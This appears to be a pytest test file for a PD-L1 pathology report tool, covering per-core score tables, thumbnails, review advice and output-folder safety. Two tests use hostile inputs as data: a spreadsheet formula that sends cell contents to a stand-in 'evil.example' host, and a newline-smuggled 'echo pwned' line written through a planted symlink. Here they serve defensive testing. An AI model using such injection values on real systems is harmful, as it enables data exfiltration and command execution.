    # training domain is the first target's.
    assert "% of analysed tissue</td>" in page and "Training domain</th><td>" in page
    assert page.count("<i>(of A-1 only, the first target)</i>") == 1
    assert "The overlay shows the results of A-1 only" in page and "the outlines are every target, named" in page

    (row,) = csv.DictReader(csv_path.open(encoding="utf-8"))  # still one row per image
    assert (row["image"], row["tps_percent"]) == ("tma.tif", "51.2")
    # Its review reasons are each flagged core's, named, as pdl1 run's closing lines and review-queue say them: the
    # first core's own (unnamed) passed for the image's, and B-1, the core to look at, was not in the row.
    assert row["review_reasons"] == f"B-1: {few} (40, limit 100)"
    with (html_path.parent / "targets.csv").open(encoding="utf-8", newline="") as fh:
        table = list(csv.DictReader(fh))
    assert [(r["target"], r["state"], r["tps_percent"], r["needs_review"]) for r in table] == [
        ("A-1", "analysed", "12.0", "0"),
        ("A-2", "missing", "", ""),
        ("B-1", "analysed", "60.0", "1"),
        ("B-2", "analysed", "55.5", "0"),
    ]


def test_the_thumbnail_draws_every_cores_regions_where_the_run_left_them_and_only_of_that_run(tmp_path, caplog):
    # The overlay showed the first core's results only (the image's GeoJSON keeps no other's): a positive region of
    # core B-2, the one to look at, was not on the picture. target_regions.json of the summary's run gives each's.
    import numpy as np
    from PIL import Image
    from shapely.geometry import box, mapping

    from bridge.qupath_geojson import QuPathObject
    from bridge.targets import TargetNuclei, write_target_regions

    targets = [
        _core("A-1", tumour_cells=250, outline=mapping(box(10, 20, 60, 70))),
        _core("B-2", tumour_cells=300, outline=mapping(box(90, 100, 140, 150))),
    ]
    region = QuPathObject(box(95, 105, 135, 145), "annotation", "PD-L1 positive", {"PD-L1 probability mean": 0.9})
    picture, pages = {}, {}
    for name, run_id in (("none", None), ("this run", "r1"), ("an earlier run", "r0"), ("damaged", "damaged")):
        project = _tma_project(tmp_path / name, targets)
        if run_id == "damaged":  # cut short: the first core's results, with a warning that names the file and fix
            (project / "pdl1" / "1" / "target_regions.json").write_text('{"run_id": "r1", "targ')
        elif run_id is not None:
            none = TargetNuclei(np.zeros((0, 2)), np.zeros(0, np.int64), ())
            write_target_regions(
                project / "pdl1" / "1" / "target_regions.json",
                run_id=run_id,
                targets=[("A-1", []), ("B-2", [region])],
                nuclei=[none, none],
            )
        html_path, _ = write_report(project)
        pages[name] = html_path.read_text()
        picture[name] = np.asarray(Image.open(html_path.parent / "1-tma.jpg").convert("RGB"), float)
    scale = picture["none"].shape[1] / 160
    edge = (round(115 * scale), round(95 * scale))  # on the region's left edge, inside core B-2
    assert np.abs(picture["this run"][edge] - picture["none"][edge]).sum() > 60
    assert np.array_equal(picture["an earlier run"], picture["none"])
    assert np.array_equal(picture["damaged"], picture["none"])
    assert "The overlay shows every target's results; the outlines are every target, named." in pages["this run"]
    for name in ("none", "an earlier run", "damaged"):
        assert "The overlay shows the results of A-1 only" in pages[name]
    (warned,) = [r.getMessage() for r in caplog.records if "target_regions.json" in r.getMessage()]
    damaged = tmp_path / "damaged" / "project" / "pdl1" / "1" / "target_regions.json"
    assert warned.startswith(f"{damaged} does not read (")
    assert warned.endswith(
        "): the thumbnail shows the first target's results only; run the image again (`pdl1 run PROJECT` without "
        "--resume) to draw every target's"
    )


def test_the_thumbnail_draws_every_cores_graded_cells_where_the_run_kept_them(tmp_path):
    # An IHC TMA's graded positive cells were drawn for the first core alone (objects.geojson keeps no other's).
    import numpy as np
    from PIL import Image
    from shapely.geometry import box, mapping

    from bridge.targets import TargetNuclei, write_target_regions

    targets = [
        _core("A-1", tumour_cells=250, outline=mapping(box(10, 20, 60, 70)), stain="H-DAB"),
        _core("B-2", tumour_cells=300, outline=mapping(box(90, 100, 140, 150)), stain="H-DAB"),
    ]
    names = ("Tumor: Negative", "Tumor: 3+")
    grid = np.array([(x, y) for x in range(100, 131, 2) for y in range(110, 141, 2)], float)  # inside B-2
    picture, pages = {}, {}
    for name in ("none", "this run"):
        project = _tma_project(tmp_path / name, targets)
        if name == "this run":
            empty = TargetNuclei(np.zeros((0, 2)), np.zeros(0, np.int64), names)
            kept = [empty, TargetNuclei(grid, np.ones(len(grid), np.int64), names)]
            write_target_regions(
                project / "pdl1" / "1" / "target_regions.json",
                run_id="r1",
                targets=[("A-1", []), ("B-2", [])],
                nuclei=kept,
            )
        html_path, _ = write_report(project)
        pages[name] = html_path.read_text()
        picture[name] = np.asarray(Image.open(html_path.parent / "1-tma.jpg").convert("RGB"), float)
    scale = picture["none"].shape[1] / 160
    inside = picture["this run"][round(112 * scale) : round(138 * scale), round(102 * scale) : round(128 * scale)]
    before = picture["none"][round(112 * scale) : round(138 * scale), round(102 * scale) : round(128 * scale)]
    assert np.abs(inside - before).sum(axis=-1).mean() > 30
    assert "The overlay shows every target's results; the outlines" in pages["this run"]


def test_the_thumbnail_outlines_each_core_where_the_summary_keeps_its_outline(tmp_path):
    import numpy as np
    from PIL import Image
    from shapely.geometry import box, mapping

    outlined = [_core("A-1", tumour_cells=250, outline=mapping(box(20, 60, 100, 140))), _core("A-2", "missing")]
    picture = {}
    for name, targets in (("with", outlined), ("without", [{**t, "outline": None} for t in outlined])):
        html_path, _ = write_report(_tma_project(tmp_path / name, targets))
        picture[name] = np.asarray(Image.open(html_path.parent / "1-tma.jpg").convert("RGB"), float)
    changed = np.abs(picture["with"] - picture["without"]).sum(axis=2) > 30
    assert changed.shape == (160, 160)
    assert changed[70:130, 17:24].any(axis=1).all() and changed[70:130, 96:103].any(axis=1).all()  # its sides
    assert not changed[70:130, 30:90].any()  # not its inside
    assert changed[48:59, 40:80].any()  # its name, above it
    assert not changed[:40].any()  # a missing core without an outline: nothing drawn


def test_an_ihc_tma_core_beside_a_missing_one_and_names_of_user_text(tmp_path):
    # One core analysed, one missing: the table still lists both (the missing one as missing), with the CPS of an
    # IHC; the image's numbers are that core's own, so nothing is marked as the first target's.
    targets = [
        _core("<b>A-1</b>", stain="H-DAB", tps_percent=5.0, tps_category="1-49%", tumour_cells=120, cps_percent=8.0),
        _core("A-2", "missing"),
    ]
    html_path, _ = write_report(_tma_project(tmp_path, targets, stain="H-DAB"))
    page = html_path.read_text()
    assert "Per target: 2 TMA cores (1 analysed, 1 missing)" in page and "<b>A-1</b>" not in page
    assert "<th>TPS %</th><th>category</th><th>tumour cells</th><th>CPS</th><th>review</th>" in page
    rows = _section_table(page)
    assert rows[0] == "<tr><td>&lt;b&gt;A-1&lt;/b&gt;</td><td>5.0</td><td>1-49%</td><td>120</td><td>8.0</td><td>ok</td>"
    assert "<td colspan='5'>missing: marked missing in QuPath, not analysed</td>" in rows[1]
    assert "To look at: <b>missing, not analysed (1)</b>: A-2." in page
    assert "the first target" not in page and "The overlay shows" not in page


def test_a_cps_of_under_100_tumour_cells_is_reported_as_insufficient_as_its_tps_is(tmp_path):
    # The TPS of a core of 40 tumour cells read "insufficient tumour cells"; the CPS beside it was a plain "15.0", in
    # the image's lines, the per-target table and report.csv alike.
    import csv

    few = {"stain": "H-DAB", "tps_category": "insufficient tumour cells", "tumour_cells": 40}
    targets = [
        _core("A-1", **few, tps_percent=10.0, cps_percent=15.0),
        _core("A-2", stain="H-DAB", tps_percent=5.0, tps_category="1-49%", tumour_cells=120, cps_percent=8.0),
    ]
    image = {"stain": "H-DAB", "tps_percent": 6.25, "tps_category": "1-49%", "cps": 9.4}
    html_path, csv_path = write_report(_tma_project(tmp_path / "core", targets, **image))
    rows = _section_table(html_path.read_text())
    assert "<td>10.0</td><td>insufficient tumour cells</td>" in rows[0]
    assert "<td>15.0 (insufficient tumour cells)</td>" in rows[0] and "<td>8.0</td>" in rows[1]
    (line,) = csv.DictReader(csv_path.open(encoding="utf-8"))
    assert (line["cps"], line["cps_category"]) == ("9.4", "")  # the image's 160 cells are enough
    one = {"stain": "H-DAB", "tps_percent": 10.0, "tps_category": "insufficient tumour cells", "cps": 15.0}
    html_path, csv_path = write_report(_tma_project(tmp_path / "image", [], **one))
    page = html_path.read_text()
    assert "<th>TPS (PD-L1 IHC)</th><td>10.0% (insufficient tumour cells)" in page
    assert "<th>CPS</th><td>15.0 (insufficient tumour cells)</td>" in page
    (line,) = csv.DictReader(csv_path.open(encoding="utf-8"))
    assert (line["cps"], line["cps_category"]) == ("15.0", "insufficient tumour cells")  # the number stays a number


@pytest.mark.parametrize(
    ("tps", "low", "high", "shown"),
    [
        # The members' range across the 50 % cut-off, under the review rule's share of members: said nowhere.
        (48.0, 45.1, 52.3, "48.0% (1-49%; members 45.1-52.3%, either side of 50%)"),
        (0.9, 0.6, 1.3, "0.9% (&lt;1%; members 0.6-1.3%, either side of 1%)"),
        # The ensemble's TPS (from its mean map) outside its members' own (each from its map): read as an interval.
        (44.0, 41.2, 43.5, "44.0% (1-49%; members 41.2-43.5%; the ensemble's TPS is above all of them)"),
        (12.0, 10.0, 14.0, "12.0% (1-49%; members 10.0-14.0%)"),
    ],
)
def test_the_members_range_of_a_predicted_tps_says_where_it_crosses_a_cut_off_or_misses_the_tps(
    tmp_path, tps, low, high, shown
):
    from inference import tps_category

    summary = {"tps_percent": tps, "tps_category": tps_category(tps), "details": {"tps_low": low, "tps_high": high}}
    page = write_report(_tma_project(tmp_path, [], **summary))[0].read_text()
    assert f"<th>Predicted TPS (H&amp;E)</th><td>{shown}; a prediction from morphology" in page


def test_annotations_sharing_a_name_are_numbered_and_one_annotation_gets_no_table(tmp_path):
    from shapely.geometry import box, mapping

    ann = {"target_type": "annotation", "tumour_cells": 200}
    targets = [_core("Tumor", **ann), _core("Tumor", **ann), _core("$x_{$", **ann, outline=mapping(box(9, 9, 99, 99)))]
    html_path, _ = write_report(_tma_project(tmp_path / "three", targets))
    page = html_path.read_text()
    assert "Per target: 3 annotations (3 analysed), in the order analysed" in page
    assert [r.split("<td>", 2)[1].split("</td>")[0] for r in _section_table(page)] == ["Tumor #1", "Tumor #2", "$x_{$"]
    assert (html_path.parent / "1-tma.jpg").is_file()  # a name that is no mathtext is drawn as it is
    page = write_report(_tma_project(tmp_path / "one", targets[:1]))[0].read_text()
    assert "Per target" not in page  # its one row would repeat the section


def test_a_summary_written_before_targets_were_listed_is_reported_as_before(tmp_path):
    import csv

    project = _tma_project(tmp_path, [])
    data = json.loads((project / "pdl1" / "1" / "summary.json").read_text())
    del data["targets"]
    (project / "pdl1" / "1" / "summary.json").write_text(json.dumps(data))
    html_path, csv_path = write_report(project)
    page = html_path.read_text()
    assert "Per target" not in page and "12.5% (1-49%)" in page
    assert [r["tps_percent"] for r in csv.DictReader(csv_path.open(encoding="utf-8"))] == ["12.5"]
    # The report folder's targets.csv: its header, no rows (nothing is made up for the image).
    assert (html_path.parent / "targets.csv").read_text().splitlines() == [
        "image,entry_id,target,target_type,state,stain,tps_percent,tps_category,tumour_cells,cps_percent,"
        "cps_category,needs_review,review_reasons,last_run_failed"
    ]


def test_targets_that_do_not_read_are_left_out_with_a_warning_and_the_image_reported(tmp_path, caplog):
    project = _tma_project(tmp_path, [_core("A-1", outline={"type": "Polygon"}), _core("A-2")])
    with caplog.at_level("WARNING", logger="bridge.report"):
        html_path, _ = write_report(project)
    assert "tma.tif: its per-target results do not read (the outline of target 'A-1' is not a GeoJSON" in caplog.text
    assert "Per target" not in html_path.read_text() and "12.5%" in html_path.read_text()


def test_pdl1_report_names_the_three_files_it_wrote(tmp_path):
    # It wrote targets.csv beside report.csv (each target's score) but named only report.html and report.csv.
    from typer.testing import CliRunner

    from bridge.cli.app import app

    out = tmp_path / "out"
    out.mkdir()
    (out / "a.summary.json").write_text(json.dumps(_summary(tmp_path / "a.svs")))
    result = CliRunner().invoke(app, ["report", str(out)], env={"COLUMNS": "400"})
    assert result.exit_code == 0, result.output
    folder = out / "pdl1" / "report"
    assert result.output.splitlines()[-1] == (
        f"wrote {folder / 'report.html'}, {folder / 'report.csv'} and {folder / 'targets.csv'}"
    )
    assert (folder / "targets.csv").is_file()


@pytest.mark.parametrize("holder", ["run", "read", "dead run", "none"])
def test_a_report_made_while_a_run_writes_the_results_says_so(tmp_path, caplog, holder):
    # A report takes no run lock, so it can be made while a run goes on; it read half the images' new results and
    # half their earlier ones without a word. A read of the project (pdl1 train) or a dead run's lock changes nothing.
    import os
    import socket

    out = tmp_path / "out"
    out.mkdir()
    (out / "a.summary.json").write_text(json.dumps(_summary(tmp_path / "a.svs")))
    pid = _dead_pid() if holder == "dead run" else os.getpid()
    lock = {"pid": pid, "host": socket.gethostname(), "started": "2026-12-06 09:00:00"}
    if holder == "read":
        lock["doing"] = "pdl1 train is reading the project's objects here"
    if holder != "none":
        (out / "pdl1").mkdir()
        (out / "pdl1" / "run.lock").write_text(json.dumps(lock))
    with caplog.at_level("WARNING", logger="bridge.report"):
        html_path, _ = write_report(out)
    page = html_path.read_text()
    said = [m for m in caplog.messages if "pdl1 run is writing" in m]
    if holder == "run":
        who = f"pid {pid} on {socket.gethostname()} since 2026-12-06 09:00:00"
        assert said == [
            f"{out}: a pdl1 run is writing these results ({who}): images it has not reached yet are reported with "
            "their earlier results; make the report again when it has finished"
        ]
        assert f"<b>A run was going on.</b> pdl1 run was writing these results ({who})" in page
    else:
        assert said == [] and "A run was going on" not in page


def test_names_a_spreadsheet_would_run_as_formulas_are_written_as_text(tmp_path):
    # helper-129: an entry renamed '=HYPERLINK("http://evil.example/?"&A1,"click")' went verbatim into report.csv,
    # targets.csv and review_queue.csv, where a spreadsheet runs it; an annotation's name took the same way.
    from bridge.review_queue import write_review_queue

    project = _tma_project(tmp_path, [_core("@SUM(1)", tps_percent=5.0, tps_category="1-49%", tumour_cells=120)])
    qpproj = project / "project.qpproj"
    named = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    raw = json.loads(qpproj.read_text())
    raw["images"][0]["imageName"] = named
    qpproj.write_text(json.dumps(raw))
    _, csv_path = write_report(project)
    (row,) = csv.DictReader(csv_path.open(encoding="utf-8"))
    assert row["image"] == "'" + named and row["tps_percent"] == "12.5"
    (target,) = csv.DictReader((csv_path.parent / "targets.csv").open(encoding="utf-8"))
    assert target["target"] == "'@SUM(1)" and target["tps_percent"] == "5.0"
    queue = write_review_queue(project, qupath="never")
    images = {r["image"] for r in csv.DictReader(queue.csv_path.open(encoding="utf-8"))}
    assert images == {"'" + named}


def test_out_that_holds_other_files_is_refused_and_an_earlier_reports_is_replaced(tmp_path):
    # helper-129: `pdl1 report out --out pngs` replaced the slide pngs/scan1.png with its thumbnail, which a later run
    # analysed; --out PROJECT/pdl1 replaced the run's targets.csv.
    project = _tma_project(tmp_path, [])
    slides = tmp_path / "pngs"
    slides.mkdir()
    (slides / "tma.png").write_bytes(b"a slide")
    for out in (slides, project / "pdl1"):
        with pytest.raises(ProjectError) as err:
            write_report(project, out)
        assert str(err.value).startswith(f"--out {out} holds other files (")
        assert str(err.value).endswith(
            "and no earlier pdl1 report; the report writes report.html, report.csv, targets.csv and a JPEG per image "
            "there, and would replace files of those names: give a new or empty folder"
        )
    assert (slides / "tma.png").read_bytes() == b"a slide" and not (project / "pdl1" / "report.html").exists()
    report = tmp_path / "report"
    report.mkdir()
    (report / ".DS_Store").write_bytes(b"finder")  # a file manager's file is no user's
    for _ in range(2):  # a new folder, then the same one again
        html_path, _ = write_report(project, report)
    assert html_path == report / "report.html"
    # A report stopped among its thumbnails (no report.html yet) is made again in its own folder (helper-132).
    (report / "report.html").unlink()
    assert write_report(project, report)[0] == html_path


def test_a_thumbnail_whose_name_holds_url_characters_is_linked_by_its_quoted_name(tmp_path):
    # helper-129: <img src="case#1.png"> is "case" and a fragment to a browser.
    project = _tma_project(tmp_path, [])
    qpproj = project / "project.qpproj"
    raw = json.loads(qpproj.read_text())
    raw["images"][0]["imageName"] = "Case #7 50%?.tif"
    qpproj.write_text(json.dumps(raw))
    page = write_report(project)[0].read_text()
    (src,) = [part.split('"')[1] for part in page.split("<img src=")[1:]]
    assert src == "1-Case%20%237%2050%25%3F.jpg" and (project / "pdl1" / "report" / "1-Case #7 50%?.jpg").is_file()


def test_entries_not_analysed_yet_are_named_and_get_rows(tmp_path, caplog):
    # helper-129: a run stopped after 8 of 29 images, then `pdl1 report`: 8 rows, no word of the other 21, and the
    # page read as the whole project's.
    project = _tma_project(tmp_path, [])
    qpproj = project / "project.qpproj"
    raw = json.loads(qpproj.read_text())
    for i in range(2, 6):
        raw["images"].append(dict(raw["images"][0], entryID=i, imageName=f"later{i}.tif"))
    qpproj.write_text(json.dumps(raw))
    with caplog.at_level("WARNING", logger="bridge.report"):
        html_path, csv_path = write_report(project)
    said = (
        "4 of the project's 5 images have no results, not analysed (a run stopped before them, or they were added "
        "since): later2.tif (QuPath entry 2), later3.tif (QuPath entry 3), later4.tif (QuPath entry 4) and 1 more; "
        f"run `pdl1 run {project} --resume`, which analyses the images not done"
    )
    assert said in caplog.text and html.escape(said) in html_path.read_text()
    rows = list(csv.DictReader(csv_path.open(encoding="utf-8")))
    assert [r["image"] for r in rows] == ["tma.tif", "later2.tif", "later3.tif", "later4.tif", "later5.tif"]
    assert rows[1]["left_out"].startswith("not analysed: no results; run `pdl1 run") and rows[1]["tps_percent"] == ""


def test_thumbnails_of_entries_no_longer_reported_go_and_a_png_of_the_users_stays(tmp_path):
    # helper-129: thumbnails of entries removed from the project stayed in pdl1/report/, pictures of nothing
    # the report showed.

    project = _analysed_tif_project(tmp_path)
    report = write_report(project)[0].parent
    assert sorted(p.name for p in report.glob("*.jpg")) == ["1-a.jpg", "2-b.jpg"]
    (report / "my notes.png").write_bytes(b"\x89PNG\r\n\x1a\n")  # the user's, not listed by any report
    (report / ".pdl1-report.0123456789ab.part").write_text("1-a.jpg\n")  # the list's, left by a killed report
    raw = json.loads((project / "project.qpproj").read_text())
    raw["images"] = raw["images"][:1]  # entry 2 removed in QuPath
    (project / "project.qpproj").write_text(json.dumps(raw))
    write_report(project)
    assert sorted(p.name for p in report.glob("*.[jp][pn]g")) == ["1-a.jpg", "my notes.png"]
    assert not list(report.glob("*.part")) and (report / ".pdl1-report").read_text() == "1-a.jpg\n"
    (project / "a.tif").unlink()  # its slide moved away: no thumbnail now, so none of an earlier report either
    write_report(project)
    assert sorted(p.name for p in report.glob("*.[jp][pn]g")) == ["my notes.png"]


def test_a_link_in_place_of_the_reports_mark_is_replaced_not_written_through(tmp_path):
    # A link planted as pdl1/report/.pdl1-report had each thumbnail's name added to the file it led to, and an image
    # named with a newline put a line of its choosing there (a shell's start-up file, say).
    project = _analysed_tif_project(tmp_path)
    raw = json.loads((project / "project.qpproj").read_text())
    raw["images"][1]["imageName"] = "b\necho pwned\n#.tif"
    (project / "project.qpproj").write_text(json.dumps(raw))
    victim = tmp_path / "victim.txt"
    victim.write_text("mine\n")
    report = project / "pdl1" / "report"
    report.mkdir()
    (report / ".pdl1-report").symlink_to(victim)
    write_report(project)
    assert victim.read_text() == "mine\n"
    mark = report / ".pdl1-report"
    assert not mark.is_symlink() and mark.read_text().splitlines() == ["1-a.jpg", "2-b_echo pwned_#.jpg"]


def test_a_project_never_run_is_told_to_run_once_not_warned_of_a_stopped_run(tmp_path, caplog):
    # helper-134: the warning "2 of the project's 2 images have no results, not analysed (a run stopped before them
    # ...); run `pdl1 run P --resume`" came before the error, which repeated it, for a project never run.
    project = tmp_path / "project"
    _project(project, ["a.svs", "b.svs"])
    (project / "pdl1" / "labels").mkdir(parents=True)  # pdl1_export_labels.groovy's, not a run's
    with caplog.at_level("WARNING", logger="bridge.report"), pytest.raises(ProjectError) as err:
        write_report(project)
    assert str(err.value).endswith(f"; no image of the project has been analysed yet: run `pdl1 run {project}`")
    assert "a run stopped" not in str(err.value) and not caplog.records


def test_a_report_stopped_among_its_thumbnails_has_listed_those_drawn(tmp_path, monkeypatch):
    # helper-136: the list was written after report.html, so thumbnails of a killed report were never removed.

    import bridge.report

    project = _analysed_tif_project(tmp_path)
    real = bridge.report._thumbnail

    def stopped_at_b(item, out, *args, **kwargs):
        if item.image_name == "b.tif":
            raise KeyboardInterrupt
        return real(item, out, *args, **kwargs)

    monkeypatch.setattr(bridge.report, "_thumbnail", stopped_at_b)
    with pytest.raises(KeyboardInterrupt):
        write_report(project)
    report = project / "pdl1" / "report"
    assert (report / ".pdl1-report").read_text() == "1-a.jpg\n" and (report / "1-a.jpg").is_file()
    monkeypatch.setattr(bridge.report, "_thumbnail", real)
    raw = json.loads((project / "project.qpproj").read_text())
    raw["images"] = raw["images"][1:]  # entry 1 removed before the report is made again
    (project / "project.qpproj").write_text(json.dumps(raw))
    write_report(project)
    assert sorted(p.name for p in report.glob("*.jpg")) == ["2-b.jpg"]


@pytest.mark.parametrize(
    ("results_from", "fix"),
    [
        ("pdl1_analyze.groovy's 1 analysis in QuPath", "and run pdl1_analyze.groovy again"),
        ("pdl1 run", "or pass --stain he|ihc where every image of the run is of that stain (it states them all)"),
    ],
    ids=["script", "run"],
)
def test_a_flagged_image_s_stain_advice_is_the_fix_of_who_analysed_it(results_from, fix):
    # An image analysed in QuPath by pdl1_analyze.groovy was told to "pass --stain he|ihc", which QuPath has not;
    # pdl1 run's --stain states every image's stain, not one image's.
    from bridge.report import _review_row

    row = {
        "review_reasons": "stain told from the colour (H&E) by a weak margin: state it in QuPath",
        "uncertainty_flag": True,
        "results_from": results_from,
    }
    advice = html.unescape(_review_row(row).split("<th>What to check</th>")[1])
    assert "it could be wrong (H&E or H-DAB); if it is: set its image type in QuPath (Image tab: Image type)" in advice
    assert fix in advice
    if results_from != "pdl1 run":
        assert "--stain" not in advice


def test_a_flagged_image_says_what_to_check_for_each_kind_of_reason(tmp_path):
    # The reasons say what tripped; the report says, once per kind, where to look and what fixes it. An image
    # not flagged gets no such row, even with a reason recorded (a pathologist's own note).
    out = tmp_path / "out"
    out.mkdir()
    reasons = [
        {"reason": "nuclei uncertainty", "value": 0.99, "limit": 0.7},
        {"reason": "out of the training domain of m: stain vectors (degrees)", "value": 30.0, "limit": 23.0},
    ]
    flagged = _summary(tmp_path / "a.svs") | {"uncertainty_flag": True, "details": {"review_reasons": reasons}}
    (out / "a.summary.json").write_text(json.dumps(flagged))
    calm = _summary(tmp_path / "b.svs") | {"uncertainty_flag": False, "details": {"review_reasons": reasons[:1]}}
    (out / "b.summary.json").write_text(json.dumps(calm))
    page = write_report(out)[0].read_text()
    assert page.count("<th>What to check</th>") == 1
    advice = page.split("<th>What to check</th>")[1].split("</tr>")[0]
    assert advice.index("out of the model&#x27;s training domain:") < advice.index("nuclei uncertainty:")
    assert "pdl1 train nuclei PROJECT --stain ihc --out DIR" in advice
